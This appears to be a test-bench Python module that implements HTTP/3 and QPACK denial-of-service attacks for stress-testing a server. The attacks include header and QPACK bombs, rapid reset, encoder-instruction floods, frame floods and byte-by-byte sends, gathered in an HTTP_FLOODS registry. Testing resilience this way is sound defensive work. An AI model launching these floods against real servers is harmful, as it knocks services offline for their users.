"""Attacks with HTTP/3 frames that come as fast as can be, on open connections."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pylsqpack
from aioquic.buffer import encode_uint_var

from tests.bench.attacks.assailant import MAX_FRAMES, stream
from tests.bench.attacks.raid import Raid
from tests.bench.client import headers_frame

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.bench.attacks.assailant import Assailant

    Steps = Callable[[Assailant], Iterator[bool]]

__all__ = ["HTTP_FLOODS", "SETTINGS", "frame", "section"]

SETTINGS = b"\x00\x04\x00"
"""The beginning of a control stream: its type, and SETTINGS without a setting."""

CONTROL_STREAM, ENCODER_STREAM = 2, 6
PIECE = MAX_FRAMES - 24


def frame(kind: int, payload: bytes) -> bytes:
    """An HTTP/3 frame (RFC 9114 §7.1)."""
    return encode_uint_var(kind) + encode_uint_var(len(payload)) + payload


def section(*fields: tuple[bytes, bytes]) -> bytes:
    """A field section, without a dynamic table."""
    return pylsqpack.Encoder().encode(0, list(fields))[1]


def request(method: bytes, path: bytes, *fields: tuple[bytes, bytes]) -> bytes:
    """A HEADERS frame, as small as it can be."""
    head = ((b":method", method), (b":scheme", b"https"), (b":authority", b"a"), (b":path", path))
    return frame(0x01, section(*head, *fields))


GET = request(b"GET", b"/")
POST = headers_frame("POST", "/upload")


def greet(assailant: Assailant) -> None:
    """Open the control stream, as a client must."""
    assailant.send_stream(CONTROL_STREAM, SETTINGS, 0)


def pour(
    assailant: Assailant, stream_id: int, data: bytes, offset: int, unit: bytes
) -> Iterator[bool]:
    """`data`, then `unit` again and again, as far as the stream's window goes and a while on."""
    whole = unit * (PIECE // len(unit))
    patience = 500
    while patience:
        room = assailant.room(stream_id, offset)
        data = data or whole[: room - room % len(unit)]
        if len(data) > room or not data:
            patience -= 1
            yield False
            continue
        assailant.send_stream(stream_id, data, offset)
        offset += len(data)
        data = b""
        yield True


def on_requests(head: bytes, unit: bytes) -> Steps:
    """An attack that pours a request stream full, and then the next."""

    def steps(assailant: Assailant) -> Iterator[bool]:
        greet(assailant)
        while True:
            while not assailant.can_open():
                yield False
            yield from pour(assailant, assailant.open(), head, 0, unit)

    return steps


def on_control(unit: bytes) -> Steps:
    """An attack that pours the control stream full."""

    def steps(assailant: Assailant) -> Iterator[bool]:
        while True:
            yield from pour(assailant, CONTROL_STREAM, SETTINGS, 0, unit)

    return steps


def on_requests_at_once(whole: bytes, *, reset: bool = False) -> Steps:
    """An attack of requests that need a frame or two each, as many as fit a packet."""

    def steps(assailant: Assailant) -> Iterator[bool]:
        greet(assailant)
        while True:
            frames: list[bytes] = []
            size = 0
            while assailant.can_open() and assailant.room(0, 0) > len(whole):
                stream_id = assailant.open()
                more = stream(stream_id, whole, fin=not reset)
                if reset:
                    numbers = (stream_id, 0x10C, len(whole))
                    more += b"\x04" + b"".join(map(encode_uint_var, numbers))
                assailant.spend(len(whole))
                if size + len(more) > MAX_FRAMES:
                    assailant.send(*frames)
                    yield True
                    frames, size = [], 0
                frames.append(more)
                size += len(more)
            if frames:
                assailant.send(*frames)
            yield bool(frames)

    return steps


def header_bomb(assailant: Assailant) -> Iterator[bool]:
    """HEADERS of 16 MB that never end."""
    yield from on_requests(b"\x01" + encode_uint_var(16_000_000), b"x" * 100)(assailant)


def encoder_instructions(assailant: Assailant) -> Iterator[bool]:
    """Set Dynamic Table Capacity to 0, which is all that we allow, again and again."""
    greet(assailant)
    yield from pour(assailant, ENCODER_STREAM, b"\x02", 0, b"\x20")


def byte_by_byte(assailant: Assailant) -> Iterator[bool]:
    """A packet for each byte of the control stream and of the requests."""
    for offset in range(len(SETTINGS)):
        assailant.send_stream(CONTROL_STREAM, SETTINGS[offset : offset + 1], offset)
    while True:
        while not assailant.can_open() or assailant.room(0, 0) < len(POST) + 100:
            yield False
        stream_id = assailant.open()
        octets = POST + b"\x00\x01x" * 30
        for offset in range(len(octets)):
            fin = offset == len(octets) - 1
            assailant.send_stream(stream_id, octets[offset : offset + 1], offset, fin=fin)
            yield True


ACCEPT = b"\xdd"
"""QPACK: the field with the static index 29, `accept: */*`."""

BOMB = frame(0x01, section((b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"a"),
    (b":path", b"/")) + ACCEPT * 1000)  # fmt: skip
"""A HEADERS frame whose section is 40 times as large when it is decoded."""

MALFORMED = request(b"POST", b"/upload", (b"content-length", b"1")) + frame(0x00, b"ab")
"""A request that is valid until it has more content than it said: a stream error."""

PRIORITY_UPDATE = frame(0xF0700, b"\x00u=1")

HTTP_FLOODS = {
    "header-bomb": Raid("Header-size bomb, HEADERS of 16 MB", header_bomb),
    "qpack-bomb": Raid("QPACK bomb, 1,000 fields in a byte each", on_requests_at_once(BOMB)),
    "qpack-instructions": Raid("QPACK instructions", encoder_instructions),
    "requests": Raid("As many GETs as streams allow", on_requests_at_once(GET)),
    "rapid-reset": Raid("Rapid reset", on_requests_at_once(GET, reset=True)),
    "server-reset": Raid("Resets provoked from the server", on_requests_at_once(MALFORMED)),
    "empty-data": Raid("DATA frames without data", on_requests(POST, b"\x00\x00")),
    "unknown-frames": Raid("Frames of unknown types", on_requests(POST, b"\x21\x00")),
    "control-frames": Raid("Unknown frames on the control stream", on_control(b"\x21\x00")),
    "priority-updates": Raid("PRIORITY_UPDATE flood", on_control(PRIORITY_UPDATE)),
    "goaway": Raid("GOAWAY again and again", on_control(b"\x07\x01\x00")),
    "byte-by-byte": Raid("Everything a byte at a time", byte_by_byte, connections=4),
}
